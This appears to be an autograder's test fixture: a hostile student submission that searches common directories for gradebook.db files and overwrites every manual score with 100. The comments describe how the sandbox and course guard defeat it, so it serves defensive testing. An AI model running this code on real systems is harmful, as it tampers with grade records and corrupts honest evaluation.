# attack: find the gradebook and give this submission full manual scores
# defended-by: sandbox
#   (with bubblewrap it finds nothing; without, the course guard of `dtlabs grade` puts back what it wrote, and the
#   scratch gradebook it is graded in is read for autograde's own scores only: its manual scores count nowhere,
#   neither in a grade line nor on Gradescope, tests/grading/export/test_export_gradescope.py)
import glob
import os
import sqlite3

import lab_utils

# where course checkouts and scratch courses live (not the whole file system: the test must end in seconds)
_roots = [os.environ.get("DTLABS_COURSE_ROOT", ""), os.path.dirname(os.path.dirname(lab_utils.__file__)), os.getcwd(),
          "/tmp", "/home", "/work", "/srv"]
for _root in filter(None, _roots):
    for _db in glob.glob(os.path.join(_root, "**", "gradebook.db"), recursive=True):
        try:
            _con = sqlite3.connect(_db)
            _con.execute("UPDATE grade SET manual_score = 100")
            _con.commit()
            print("wrote", _db)
        except sqlite3.Error as _exc:
            print("could not write", _db, _exc)
